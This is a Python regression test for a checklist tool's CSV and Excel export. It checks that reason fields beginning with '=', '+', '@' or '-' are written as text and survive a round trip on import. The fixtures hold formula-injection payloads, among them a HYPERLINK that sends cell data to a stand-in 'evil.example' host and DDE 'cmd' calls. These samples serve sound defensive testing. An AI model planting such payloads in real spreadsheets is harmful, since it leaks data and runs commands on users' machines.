"""Formula injection (issue 21 item 9): reasons starting with `=` were written into the checklist as
live formulas. They are written as text, and importing the export gives the reasons back."""

from __future__ import annotations

import csv
import io

import openpyxl
import pytest

from aftersales.checklist.reader import parse_checklist_bytes
from aftersales.checklist.writer import Filled, write_csv, write_xlsx
from aftersales.core.scheme import get_scheme
from aftersales.core.scoring import DeductionKind, ItemResult, SpecialBonus, SpecialDeduction

LINK = '=HYPERLINK("https://evil.example/steal?"&A1,"详见附件")'
REASONS = {
    "5.1.1.1": LINK,
    "5.2.6.1": "-2+3+cmd|' /C calc'!A0",
    "5.1.1.2": "@SUM(1+1)",
    "5.1.2.1": "'=written by a person with an apostrophe",
    "5.1.2.2": "-5",
}


def filled() -> Filled:
    results = {code: ItemResult.nonconform(reason) for code, reason in REASONS.items()}
    return Filled(
        results=results,
        deductions=[SpecialDeduction(kind=DeductionKind.LAW, reason="+cmd|' /C calc'!A0")],
        bonuses=[SpecialBonus(reason="=1+1")],
    )


def test_the_xlsx_holds_no_formula_and_shows_the_reasons_as_text(tmp_path):
    path = tmp_path / "c.xlsx"
    write_xlsx(get_scheme("gbt27922-2011"), path, filled=filled())
    sheet = openpyxl.load_workbook(path).worksheets[0]
    cells = [c for row in sheet.iter_rows() for c in row if c.value is not None]
    assert [c.coordinate for c in cells if c.data_type == "f"] == []
    texts = {c.value for c in cells}
    assert "'" + LINK in texts and "'=1+1" in texts and "'+cmd|' /C calc'!A0" in texts
    assert "-5" in texts  # a number-like reason stays as written


def test_the_csv_starts_no_field_with_a_formula_lead(tmp_path):
    path = tmp_path / "c.csv"
    write_csv(get_scheme("gbt27922-2011"), path, filled=filled())
    rows = list(csv.reader(io.StringIO(path.read_bytes().decode("utf-8-sig"))))
    risky = [f for row in rows for f in row if f[:1] in {"=", "+", "@", "\t", "\r"}]
    risky += [f for row in rows for f in row if f.startswith("-") and f != "-5"]
    assert risky == []


@pytest.mark.parametrize("suffix", [".xlsx", ".csv"])
def test_importing_the_export_gives_the_original_reasons_back(tmp_path, suffix):
    scheme = get_scheme("gbt27922-2011")
    path = tmp_path / f"c{suffix}"
    (write_xlsx if suffix == ".xlsx" else write_csv)(scheme, path, filled=filled())
    sheet = parse_checklist_bytes(scheme, path.read_bytes(), path.name, complete=False)
    assert {code: sheet.results[scheme.node(code).id].reason for code in REASONS} == REASONS
    assert [d.reason for d in sheet.deductions] == ["+cmd|' /C calc'!A0"]
    assert [b.reason for b in sheet.bonuses] == ["=1+1"]
